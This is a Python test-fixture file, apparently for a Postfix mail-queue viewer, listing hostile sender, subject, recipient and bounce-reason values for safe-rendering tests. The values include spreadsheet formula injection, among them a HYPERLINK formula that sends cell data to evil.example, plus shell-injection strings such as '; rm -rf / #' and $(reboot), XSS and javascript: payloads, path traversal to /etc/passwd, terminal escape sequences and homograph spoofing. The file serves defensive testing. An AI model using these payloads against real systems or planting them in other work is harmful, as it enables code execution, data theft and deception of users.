# SPDX-FileCopyrightText: The Spoolscope authors
# SPDX-License-Identifier: GPL-3.0-or-later

"""Mail that wants to be more than text: each value has once fooled some program.

Where Postfix would never store a value (a line feed in an address), it is not here either.
"""

LONG = b"a" * 300
OVERRIDE = "\u202e".encode()   # right-to-left override

# (sender, subject, recipient, reason); None keeps the ordinary value
HOSTILE = (
    (b"<img src=file:///etc/passwd>@evil.example", b"<img src=file:///etc/passwd>", None,
     b"host mx.evil.example[203.0.113.66] said: 450 <img src=file:///etc/passwd> <b>OK</b> "
     b"(in reply to RCPT TO command)"),
    (b"=cmd|'/c calc'!A1@evil.example", b"=cmd|'/c calc'!A1", b"+1+cmd|'/c calc'!A1@evil.example",
     b"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    (b"@SUM(1)@x.example", b"@SUM(1)*cmd|' /C notepad'!A0", b"-2+3@x.example", b"@SUM(1)"),
    (b"invoice-" + OVERRIDE + b"fdp.exe@x.example", b"Invoice " + OVERRIDE + b"fdp.exe",
     b"user" + OVERRIDE + b"moc.elpmaxe@x.example", b"host " + OVERRIDE + b"elpmaxe said: 250 ok"),
    (b"\x1b[31mred\x1b[0m@x.example", b"\x1b]0;owned\x07\x1b[2J\x1b[1;31mALERT\x1b[0m",
     b"\x1b[8mhidden@x.example", b"\x1b[2J\x1b[H\x1b]52;c;ZXZpbA==\x07450 cleared"),
    (b"%1%2%n%s@x.example", b"%1 %2 %n %L1 &File &&Edit %99", b"&File@x.example",
     b"%1 said: %2 %n &File (in reply to %s command)"),
    (LONG + b"@long.example", b"long sender", LONG + b"@long.example", None),
    (b"long subject <" + b"s@x.example", b"S" * 990, None, b"host x said: 450 " + b"r" * 900),
    (b'John "the boss" Doe@x.example', b"quoted local part", b'a b"c\\d@x.example', None),
    (b"a@b@c.example", b"two at signs", b"very..dotted.@x.example", None),
    (b"caf\xe9@latin1.example", b"caf\xe9 \xff\xfe not UTF-8", b"\xc0\xaf@x.example",
     b"450 4.0.0 caf\xe9 \xed\xa0\x80 invalid"),
    ("пример@пример.example".encode(), "Пример темы".encode(), "用户@例子.example".encode(), None),
    ("paypa1@раураl.example".encode(), "PayPal: verify".encode(), None, None),
    (b"-oQ/tmp/x@x.example", b"-d ALL", b"--help@x.example", b"; rm -rf / #"),
    (b"$(reboot)`id`;@x.example", b"$(id) `id` ; | & > /etc/passwd", b"$HOME@x.example", None),
    (b"nobody@x.example", b"=?utf-8?q?=00=0A?= =?utf-8?b?4oCu?= =?x-unknown?q?a?=", None, None),
    (b"nobody@x.example", b"=?utf-8?b?%%%?= =?utf-7?q?+ADw-script+AD4-?=", None, None),
    (b"nobody@x.example", b"<script>alert(1)</script>&lt;b&gt; <!doctype html>", None,
     b"host mx.x.example[203.0.113.9] said: 450 <script>alert(1)</script> &lt; "
     b"(in reply to end of DATA command)"),
    (b"nobody@x.example", "Z̷̡͓a̸l̵g̶o̷ ".encode() * 12 + "👩‍👩‍👧‍👦".encode(), None, None),
    (b"user@[IPv6:2001:db8::1]", b"address literal", b"user@[192.0.2.1]", None),
    (b"nobody@x.example", b"forged", None,
     b"450 ok Nov 21 10:00:00 mx1 postfix/qmgr[1]: A1B2C3D4E5: removed"),
    (b"nobody@x.example", "＝1+1 zero​width".encode(),
     "zero​width@x.example".encode(), None),
    (b"nobody@x.example", b"", None, b"MAILER-DAEMON"),
    (b"javascript:alert(1)@x.example", b"../../../../etc/passwd\t\ttabs", b"a,b;c@x.example",
     b"450 4.7.1 javascript:alert(1) file:///etc/passwd"),
)
